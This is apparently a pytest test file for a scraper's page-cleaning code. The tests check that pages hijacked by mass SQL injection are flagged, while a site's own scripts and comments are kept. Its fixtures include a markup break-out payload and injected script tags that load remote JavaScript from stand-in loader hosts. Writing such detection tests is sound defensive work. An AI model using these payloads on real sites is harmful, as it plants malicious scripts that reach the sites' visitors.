"""A remote script that a text field's value adds by breaking out of the markup it is printed in
(a mass SQL injection: '"></title><script src=…></script><!--', v40b rc40b-002/-003/-019) flags the
page; a template's own commented-out markup after its own scripts stays the page's."""
from __future__ import annotations

import pytest

from scraper.clean import clean_page
from tests.clean.conftest import kinds
from tests.clean.test_structural import BODY, HEADLINE, URL, page

INJECTED = '"></title><script src="http://www0.loader-example.cn/csrss/w.js"></script><!--'


def test_a_loader_breaking_out_of_the_keywords_meta_flags_the_page():
    head = f'<meta name="keywords" content="青山区,环境整治{INJECTED}">\n<meta name="description" content="青山区">\n<!-- 公共样式 -->'
    a = clean_page(page(head=head), url=URL)
    assert a.hijacked and "spam_script" in kinds(a), a.findings
    assert any("loader-example.cn" in f.evidence for f in a.findings)
    assert "会议指出" in a.text and a.title == HEADLINE


def test_a_loader_breaking_out_of_the_title_flags_the_page():
    head = '<meta name="description" content="青山区">\n<!-- 公共样式 -->'
    a = clean_page(page(title=HEADLINE + INJECTED, head=head), url=URL)
    assert a.hijacked and "spam_script" in kinds(a), a.findings
    assert "会议指出" in a.text


def test_a_templates_own_comments_after_its_scripts_stay_the_pages():
    for head in (
        '<script src="https://cdn.example-cdn.net/a.js"></script><!-- <div class="old">旧版</div> -->',
        '<script src="https://cdn.example-cdn.net/a.js"></script><!-- </bc> -->',  # a closed label (ucoz)
        '<script src="/js/menu.js"></script><!-- "><div>旧菜单</div> -->',  # the site's own file
    ):
        a = clean_page(page(head=head), url=URL)
        assert not a.hijacked, (head, a.findings)


# The same appended string where the value is printed as element content: no break-out, the tag
# glued to the value's last word (v40b rc40b-005 a 来源, rc40b-006 a file name; rc39b-004 a footer's
# statistics slot).
GLUED = '<script src=http://www.loader-example.com/b.js></script>'


def test_a_loader_glued_to_the_source_in_the_byline_flags_the_page():
    body = ('<p>3月15日，区政府召开专题会议，研究部署今年城乡环境综合整治工作。</p>'
            f'<p class="meta">来源：区政府办公室{GLUED}&nbsp;&nbsp;浏览次数：12</p>')
    a = clean_page(page(body=body), url=URL)
    assert a.hijacked and "spam_script" in kinds(a), a.findings
    assert any("loader-example.com" in f.evidence for f in a.findings)
    assert "专题会议" in a.text and a.title == HEADLINE


def test_a_loader_glued_to_an_attachments_file_name_flags_the_page():
    body = ('<p>3月15日，区政府召开专题会议，研究部署今年城乡环境综合整治工作。</p>'
            f'<div class="attach">附件：download\\\\通知.doc{GLUED}</div>')
    a = clean_page(page(body=body), url=URL)
    assert a.hijacked and "spam_script" in kinds(a), a.findings


def test_scripts_a_template_writes_beside_words_stay_the_pages():
    for body in (
        '<p>正文。</p><div class="count">阅读<script src="/e/public/ViewClick/?id=5"></script>次</div>',  # own counter
        '<p>正文。</p><div>技术支持：信息中心<script src="https://s4.cnzz.com/stat.php?id=1"></script></div>',  # trusted
        '<p>正文。</p><div>Anzeige:<script src="//widget.ad-example.com/loader.js"></script></div>',  # a label's colon
        '<p>正文。</p><div>您是第<script src="http://count.example-stats.com/c.js"></script>位访客</div>',  # a count in words
        '<p>正文。</p><div>技术支持：信息中心\n<script src="http://count.example-stats.com/c.js"></script></div>',  # own line
        '<p>正文。</p><div><a href="http://www.loader-example.com/">合作</a>网站'
        '<script src="http://www.loader-example.com/b.js"></script></div>',  # a site the page links to
    ):
        a = clean_page(page(body=body), url=URL)
        assert not a.hijacked, (body, a.findings)


# variant appended_runs (see its commit): it gains one dev page (rc40b-004; rc40b-001, the other page
# of its form, is flagged already), below the two-page rule: not wired.
@pytest.mark.xfail(strict=True, reason="appended_runs is a variant, not wired")
def test_loaders_appended_in_a_run_to_the_articles_last_paragraph_flag_the_page():
    body = ('<p>3月15日，区政府召开专题会议，研究部署今年城乡环境综合整治工作。</p>'
            '<script src=http://www.loader-example.com/b.js></script><script src=http://www.loader-other.com/b.js></script>\n')
    a = clean_page(page(body=body), url=URL)
    assert a.hijacked and "spam_script" in kinds(a), a.findings


def test_a_templates_scripts_after_its_paragraphs_stay_the_pages():
    for body in (
        '<p>正文。</p><script src="https://ta.example-stats.cn/c/js/ta.js"></script>\n',  # one load
        '<p>正文。</p>\n<script src="https://a.example-ads.com/a.js"></script><script src="https://b.example-ads.net/b.js"></script>',
        '<div><p>正文。</p></div><script src="https://a.example-ads.com/a.js"></script><script src="https://b.example-ads.net/b.js"></script>',
    ):
        a = clean_page(page(body=body), url=URL)
        assert not a.hijacked, (body, a.findings)


# The same string where the value is printed as text: in the <title> (a browser shows a tag there as
# letters) and escaped in the headline, its host written without a scheme (v41b rc41b-014, the 2008
# wave's '<script src=nihaorr1.com/1.js></script>').
SHOWN = '<script src=loader-example.com/1.js></script>'


# variant named_host/cut_shown_loaders (see its commit): it gains one dev page (rc41b-014), below the
# two-page rule: not wired.
@pytest.mark.xfail(strict=True, reason="shown-loader reader is a variant, not wired (one dev page)")
def test_a_loader_shown_as_letters_in_the_title_and_headline_is_cut_from_both():
    body = f'<h2>{HEADLINE}{SHOWN.replace("<", "&lt;").replace(">", "&gt;")}</h2>' + BODY.replace("</p>", f"{SHOWN}</p>", 1)
    a = clean_page(page(title=HEADLINE + SHOWN + "-青山区人民政府", body=body), url=URL)
    assert a.hijacked and "spam_script" in kinds(a), a.findings
    assert a.title == HEADLINE
    assert "<script" not in a.text and "会议指出" in a.text


def test_markup_a_page_shows_as_its_subject_stays_the_pages():
    sample = '<pre>&lt;script src="https://cdn.example-cdn.net/lib.js"&gt;&lt;/script&gt;</pre>'
    for title, body in (
        ("如何在网页中引用脚本-青山区人民政府", BODY + sample),  # a code sample
        (HEADLINE + "<script src=/js/title.js></script>-青山区人民政府", BODY),  # a path of the site's own
    ):
        a = clean_page(page(title=title, body=body), url=URL)
        assert not a.hijacked, (title, a.findings)
    # on a page whose title does carry the loader, the code sample showing the same tag is kept
    a = clean_page(page(title=HEADLINE + '<script src=https://cdn.example-cdn.net/lib.js></script>', body=BODY + sample), url=URL)
    assert a.hijacked and a.title == HEADLINE, a.findings
    assert "lib.js" in a.text and [f.where for f in a.findings] == ["title"], a.findings
